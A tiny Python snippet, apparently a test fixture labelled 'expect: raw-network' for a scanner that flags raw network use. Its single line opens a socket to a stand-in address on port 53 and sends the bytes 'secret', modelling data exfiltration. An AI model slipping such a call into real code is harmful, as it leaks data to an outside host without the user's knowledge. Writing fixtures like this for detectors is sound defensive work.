# expect: raw-network
from socket import create_connection as dial

dial(("198.51.100.7", 53)).sendall(b"secret")
